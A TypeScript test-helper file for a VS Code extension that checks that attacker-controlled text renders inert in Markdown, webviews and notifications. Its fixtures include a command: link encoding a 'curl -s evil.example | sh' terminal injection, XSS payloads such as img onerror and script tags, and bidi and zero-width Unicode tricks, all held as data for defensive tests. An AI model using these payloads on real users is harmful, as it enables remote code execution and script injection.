// Text an attacker controls (an agent's command, a repository's file names, a tool
// result), and the means to check that a renderer draws it inert: a CommonMark
// renderer (markdown-it, HTML and linkify on, so nothing is missed) and the link
// pattern VS Code applies to notification messages.
import assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { oneLine } from '../src/text';

/** A hostile link: a click would type a command into the person's terminal. */
export const commandLink =
  '[Answer the waiting question](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20-s%20evil.example%20%7C%20sh%5Cn%22%7D)';

/** Markdown, HTML, backtick, newline and Unicode tricks, each meant to become a link, markup or a second line. */
export const hostile: readonly string[] = [
  commandLink,
  '<command:workbench.action.terminal.new>',
  '[x][r]\n\n[r]: command:workbench.action.terminal.new',
  '[a](<command:workbench.action.terminal.new> "title")',
  '![pixel](https://evil.example/p.png)',
  '<img src=x onerror=alert(1)>',
  '<a href="command:workbench.action.terminal.new">run</a>',
  '` `](command:workbench.action.terminal.new)` ``',
  'a`b`` [c](command:workbench.action.terminal.new) ``d`',
  '```\nfenced\n```',
  'line one\n\n# heading\n- [item](command:workbench.action.terminal.new)',
  'text\r\n\r\n<script>alert(1)</script>',
  'https://evil.example/path and www.evil.example',
  '&lt;b&gt; &#91;e](command:x) &amp;',
  '\\[escaped](command:workbench.action.terminal.new)',
  '**bold** _em_ ~~strike~~ $(terminal) <u>u</u>',
  'a | b | c',
  'safe\u202etxt.exe\u202c and \u200bzero\u2028width',
  '    indented code\n>quote',
  'mail user@evil.example, https://localhost/x; ok? 100% \'q\' "dq" a/b',
  '---',
  '===',
  '1. one',
  '+ plus',
  '<!-- comment -->',
  'trailing  ',
  '\\',
  '`',
  ' ',
];

const md = new MarkdownIt({ html: true, linkify: true });

/** render renders Markdown as CommonMark with GFM tables, raw HTML allowed. */
export function render(markdown: string): string {
  return md.render(markdown);
}

export function renderInline(markdown: string): string {
  return md.renderInline(markdown);
}

/** textOf is the text a person sees in rendered HTML. */
export function textOf(html: string): string {
  return html
    .replace(/<[^>]*>/g, '')
    .replace(/&#(\d+);/g, (_, n: string) => String.fromCodePoint(Number(n)))
    .replace(/&#x([0-9a-f]+);/gi, (_, n: string) => String.fromCodePoint(parseInt(n, 16)))
    .replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&');
}

/** links lists the targets of every link and image in rendered HTML. */
export function links(html: string): string[] {
  return [...html.matchAll(/<(?:a|img)\b[^>]*?(?:href|src)="([^"]*)"/g)].map((m) => m[1]);
}

/** tags lists the element names of rendered HTML in order: the shape of the document. */
export function tags(html: string): string[] {
  return [...html.matchAll(/<\/?([a-z][a-z0-9]*)/gi)].map((m) => m[0]);
}

/**
 * assertInert checks that Markdown drawn from hostile texts has the same shape as the
 * same Markdown drawn from harmless ones (the same elements, the same links, which may
 * only be the extension's own), and shows every hostile text as the characters it is
 * (control characters as escapes).
 */
export function assertInert(hostileMd: string, harmlessMd: string, texts: readonly string[], what: string, allowLinks: readonly string[] = []): void {
  const h = render(hostileMd);
  const b = render(harmlessMd);
  for (const l of links(h)) assert.ok(allowLinks.includes(l), `${what}: a link to ${l} in\n${h}`);
  assert.deepEqual(links(h), links(b), `${what}: links differ from the harmless rendering\n${h}`);
  assert.deepEqual(tags(h).sort(), tags(b).sort(), `${what}: the text made markup:\n${h}\nharmless:\n${b}`);
  const seen = textOf(h);
  for (const t of texts) assert.ok(seen.includes(oneLine(t)), `${what}: ${JSON.stringify(t)} is not shown literally in\n${seen}`);
}

/** The pattern VS Code's notifications and dialogs turn into links (vs/base/common/linkedText.ts). */
export const notificationLink = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

/**
 * assertPlain checks a plain-text surface: one line, no invisible characters, the text
 * still readable, and (where VS Code scans the text for links: notifications, dialogs)
 * no link.
 */
export function assertPlain(shown: string, texts: readonly string[], what: string, scannedForLinks = true): void {
  assert.doesNotMatch(shown, /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/, `${what}: an invisible or line-breaking character in ${JSON.stringify(shown)}`);
  if (scannedForLinks) assert.equal([...shown.matchAll(notificationLink)].length, 0, `${what}: a link in ${JSON.stringify(shown)}`);
  for (const t of texts) {
    const words = oneLine(t).split(/[\s[\]()]+/).filter((w) => w.length > 2);
    for (const w of words) assert.ok(shown.includes(w), `${what}: ${JSON.stringify(w)} of ${JSON.stringify(t)} is missing from ${JSON.stringify(shown)}`);
  }
}

/** pageText is the text a person sees in one of the extension's pages: the body only (not the style). */
export function pageText(html: string): string {
  const body = html.slice(html.indexOf('<body>'), html.lastIndexOf('</body>'));
  return textOf(body);
}

/**
 * assertInertHtml checks a webview page drawn from hostile texts: the same elements and
 * links as the page drawn from harmless ones (links only the extension's own commands),
 * no script, no event handler, no other URL scheme, the Content Security Policy in place,
 * and every hostile text shown as its characters (line by line: a `<pre>` keeps breaks).
 */
export function assertInertHtml(hostileHtml: string, harmlessHtml: string, texts: readonly string[], what: string): void {
  for (const l of links(hostileHtml)) assert.match(l, /^command:admit\.[A-Za-z]+\?%5B/, `${what}: a link to ${l}`);
  assert.deepEqual(links(hostileHtml).map((l) => l.replace(/\?.*/, '')), links(harmlessHtml).map((l) => l.replace(/\?.*/, '')), `${what}: links differ from the harmless page`);
  // Sorted: a text may change the order of rows (the report sorts by rule), never what they are made of.
  assert.deepEqual(tags(hostileHtml).sort(), tags(harmlessHtml).sort(), `${what}: the text made markup:\n${hostileHtml}`);
  assert.doesNotMatch(hostileHtml, /<script/i, `${what}: a script`);
  // Attribute values hold no raw quote (text is escaped), so dropping them leaves only the attributes themselves.
  assert.doesNotMatch(hostileHtml.replace(/"[^"]*"/g, '""'), /<[^>]+\son[a-z]+\s*=/i, `${what}: an event handler attribute`);
  assert.match(hostileHtml, /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'none'; style-src 'nonce-[^']+';/, `${what}: no CSP`);
  const seen = pageText(hostileHtml);
  for (const t of texts) for (const line of t.split('\n')) assert.ok(seen.includes(oneLine(line)), `${what}: ${JSON.stringify(line)} is not shown literally in\n${seen}`);
}
